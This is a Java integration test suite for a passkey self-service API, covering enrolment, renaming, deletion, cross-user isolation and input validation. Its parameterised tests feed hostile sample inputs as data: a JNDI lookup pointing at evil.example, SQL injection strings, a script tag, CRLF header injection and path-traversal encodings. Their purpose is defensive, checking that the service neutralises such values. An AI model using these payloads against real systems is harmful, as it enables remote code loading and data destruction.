package dev.latchkey.token;

import static dev.latchkey.token.TestAccount.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

import dev.latchkey.authenticator.Algorithm;
import dev.latchkey.authenticator.SoftwareAuthenticator;
import dev.latchkey.kernel.values.Base64Url;
import dev.latchkey.token.TestCeremonies.Session;
import dev.latchkey.token.TokenEndpoint.Answer;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.node.ObjectNode;

/** What a person does with their own passkeys (CONTRACT section 12). */
@TokenServiceTest
class MyAccountIT {

    @Autowired
    private TestService service;

    @Test
    void enrolsShowsRenamesAndDeletesAPasskey() {
        TestAccount account = TestAccount.signedUp(service);
        SoftwareAuthenticator authenticator = SoftwareAuthenticator.withAlgorithm(Algorithm.EDDSA);
        Session session = account.enrolment();
        ObjectNode response = authenticator.create(session.options(), TestCeremonies.ORIGIN);

        Answer enrolled = account.verify(session, response);

        assertThat(enrolled.status()).as(enrolled.rawText()).isEqualTo(201);
        String id = enrolled.text("id");
        assertThat(id).matches("passkey\\|dev_[A-Za-z0-9_-]{16}");
        assertThat(enrolled.raw().headers().firstValue("Location"))
                .hasValue("http://localhost:8080/me/v1/authentication-methods/" + id.replace("|", "%7C"));
        assertThat(enrolled.raw().headers().allValues("Cache-Control")).containsExactly("no-store");
        assertThat(enrolled.body().propertyNames())
                .containsExactly(
                        "id",
                        "type",
                        "usage",
                        "created_at",
                        "key_id",
                        "public_key",
                        "user_handle",
                        "identity_user_id",
                        "credential_device_type",
                        "credential_backed_up",
                        "aaguid",
                        "relying_party_id",
                        "transports");
        assertThat(enrolled.text("type")).isEqualTo("passkey");
        assertThat(enrolled.body().get("usage").toString()).isEqualTo("[\"primary\"]");
        assertThat(enrolled.text("created_at")).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z");
        assertThat(enrolled.text("key_id")).isEqualTo(response.get("id").stringValue());
        assertThat(Base64.getDecoder().decode(enrolled.text("public_key"))).isNotEmpty();
        assertThat(enrolled.text("public_key").length() % 4).isZero();
        assertThat(enrolled.text("user_handle"))
                .isEqualTo(Base64Url.encode(account.userId().toUserHandle()));
        assertThat(enrolled.text("identity_user_id")).isEqualTo(account.userId().toString());
        assertThat(enrolled.text("credential_device_type")).isEqualTo("multi_device");
        assertThat(enrolled.body().get("credential_backed_up").booleanValue()).isTrue();
        assertThat(enrolled.text("aaguid")).isEqualTo(SoftwareAuthenticator.AAGUID.toString());
        assertThat(enrolled.text("relying_party_id")).isEqualTo("localhost");
        assertThat(service.facts().of(session)).containsExactly("auth-session-redeemed");
        assertThat(service.facts().members(session.id(), "auth-session-redeemed", "grantId"))
                .containsExactly((String) null);

        assertThat(account.show(id).body()).isEqualTo(enrolled.body());
        assertThat(account.list().body().get("authentication_methods")).hasSize(2);
        assertThat(account.list().body().get("authentication_methods").get(1)).isEqualTo(enrolled.body());
        assertThat(account.send("GET", TestAccount.METHODS + "?type=passkey", null)
                        .body())
                .isEqualTo(account.list().body());

        Answer renamed = account.rename(id, "Key ring");
        assertThat(renamed.status()).as(renamed.rawText()).isEqualTo(200);
        assertThat(renamed.text("name")).isEqualTo("Key ring");
        assertThat(account.show(id).body()).isEqualTo(renamed.body());

        Answer signedIn = service.endpoint()
                .post(service.ceremonies().request(service.ceremonies().login(), authenticator));
        TestAnswers.assertSignedIn(signedIn);

        Answer deleted = account.delete(id);
        assertThat(deleted.status()).as(deleted.rawText()).isEqualTo(204);
        assertThat(account.show(id).status()).isEqualTo(404);
        assertThat(account.list().body().get("authentication_methods")).hasSize(1);
        assertThat(service.facts().of(id))
                .isEqualTo(List.of("credential-registered", "credential-renamed", "credential-revoked"));
        TestAnswers.assertRefused(service.endpoint()
                .post(service.ceremonies().request(service.ceremonies().login(), authenticator)));
    }

    @Test
    void knowsNobodyElsesPasskey() {
        TestAccount owner = TestAccount.signedUp(service);
        TestAccount stranger = TestAccount.signedUp(service);
        String id = idOfFirst(owner);
        assertThat(owner.rename(id, "Mine").status()).isEqualTo(200);

        List<Answer> answers = List.of(
                stranger.show(id),
                stranger.rename(id, "Stolen"),
                stranger.delete(id),
                stranger.show("passkey|dev_0000000000000000"),
                stranger.rename("passkey|dev_0000000000000000", "x"),
                stranger.delete("passkey|dev_0000000000000000"),
                stranger.show("passkey|new"),
                stranger.show(String.valueOf(stranger.userId())));

        assertThat(answers).allSatisfy(answer -> {
            assertProblem(answer, 404);
            assertThat(answer.rawText()).isEqualTo(answers.getFirst().rawText());
        });
        assertThat(owner.show(id).text("name")).isEqualTo("Mine");
        assertThat(service.facts().of(id)).containsExactly("credential-registered", "credential-renamed");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "%00",
                "%FF",
                "%C3%28",
                "%0d%0aX:y",
                "%2e%2e",
                "a%2Fb",
                "%27%20OR%201=1--",
                "a%252Fb",
                "%F0%9F%94%91"
            })
    void findsNothingUnderHostileIds(String id) {
        TestAccount account = TestAccount.signedUp(service);

        for (String method : List.of("GET", "PATCH", "DELETE")) {
            Answer answer = account.send(method, TestAccount.METHODS + "/" + id, "{\"name\":\"x\"}");
            assertThat(answer.status()).as(answer.rawText()).isIn(400, 404);
        }
        assertProblem(account.show("x".repeat(4_000)), 404);
    }

    @Test
    void keepsTheLastPasskey() {
        TestAccount account = TestAccount.signedUp(service);
        String id = idOfFirst(account);

        Answer answer = account.delete(id);

        assertProblem(answer, 409);
        assertThat(account.show(id).status()).isEqualTo(200);
        assertThat(service.facts().of(id)).containsExactly("credential-registered");
    }

    @Test
    void keepsOneOfTheLastTwoWhenBothAreDeletedAtOnceOnTwoInstances() throws Exception {
        try (ServiceInstance second = ServiceInstance.on(service.database())) {
            for (int round = 0; round < 5; round++) {
                TestAccount account = TestAccount.signedUp(service);
                List<TestAccount> instances = List.of(account, account.at(second.endpoint()));
                List<String> ids = List.of(idOfFirst(account), account.enrol().text("id"));

                List<Answer> answers =
                        EnrolmentIT.inParallel(2, index -> instances.get(index).delete(ids.get(index)));

                assertThat(answers).extracting(Answer::status).containsExactlyInAnyOrder(204, 409);
                assertThat(account.list().body().get("authentication_methods")).hasSize(1);
            }
        }
    }

    @Test
    void deletesAPasskeyOnce() {
        TestAccount account = TestAccount.signedUp(service);
        String id = account.enrol().text("id");

        assertThat(account.delete(id).status()).isEqualTo(204);
        assertProblem(account.delete(id), 404);
        assertProblem(account.rename(id, "Ghost"), 404);
        assertThat(service.facts().of(id)).containsExactly("credential-registered", "credential-revoked");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x",
                "  Key ring  ",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil.example/a}",
                "'; DROP TABLE claimed_passkey; --",
                "مفتاح",
                "\uD83D\uDD11"
            })
    void keepsAVisibleNameAsItIsAndHiddenInTheStore(String name) {
        TestAccount account = TestAccount.signedUp(service);
        String id = idOfFirst(account);

        Answer renamed = account.rename(id, name);

        assertThat(renamed.status()).as(renamed.rawText()).isEqualTo(200);
        assertThat(renamed.text("name")).isEqualTo(name.strip());
        assertThat(renamed.raw().headers().firstValue("Content-Type")).hasValue("application/json");
        assertThat(account.show(id).text("name")).isEqualTo(name.strip());
        String stored = service.facts()
                .members(id, "credential-renamed", "personalData")
                .getFirst();
        assertThat(stored).matches("[A-Za-z0-9_-]{30,}");
    }

    @Test
    void recordsANameOnce() {
        TestAccount account = TestAccount.signedUp(service);
        String id = idOfFirst(account);

        assertThat(account.rename(id, "Phone").status()).isEqualTo(200);
        assertThat(account.rename(id, "Phone").status()).isEqualTo(200);
        assertThat(account.rename(id, "A".repeat(100)).status()).isEqualTo(200);

        assertThat(service.facts().of(id))
                .containsExactly("credential-registered", "credential-renamed", "credential-renamed");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "[]",
                "{}",
                "{\"name\":null}",
                "{\"name\":7}",
                "{\"name\":\"\"}",
                "{\"name\":\"   \"}",
                "{\"name\":\"a\\r\\nb\"}",
                "{\"name\":\"\\u001b[31mred\"}",
                "{\"name\":\"a\\u0000b\"}",
                "{\"name\":\"a\\u202eb\"}",
                "{\"name\":\"a\\u200bb\"}",
                "{\"name\":\"\\ud83d\"}",
                "{\"name\":\"a\",\"name\":\"b\"}"
            })
    void refusesANameThatIsNotVisibleText(String body) {
        TestAccount account = TestAccount.signedUp(service);
        String id = idOfFirst(account);

        assertProblem(account.send("PATCH", TestAccount.pathOf(id), body), 400);

        assertThat(service.facts().of(id)).containsExactly("credential-registered");
    }

    @Test
    void refusesANameThatIsTooLong() {
        TestAccount account = TestAccount.signedUp(service);
        String id = idOfFirst(account);

        Answer answer = account.rename(id, "A".repeat(101));

        assertProblem(answer, 400);
        assertThat(answer.body().get("validation_errors").get(0).get("field").stringValue())
                .isEqualTo("name");
        assertThat(account.rename(id, "A".repeat(1 << 20)).status()).isEqualTo(413);
    }

    @Test
    void listsPasskeysAndNothingElse() {
        TestAccount account = TestAccount.signedUp(service);

        assertThat(account.send("GET", TestAccount.METHODS + "?type=totp", null).rawText())
                .isEqualTo("{\"authentication_methods\":[]}");
        assertThat(account.send("GET", "/me/v1/factors", null).rawText())
                .isEqualTo("{\"factors\":[{\"type\":\"passkey\",\"usage\":[\"primary\"]}]}");
    }

    private static String idOfFirst(TestAccount account) {
        return account.list()
                .body()
                .get("authentication_methods")
                .get(0)
                .get("id")
                .stringValue();
    }
}
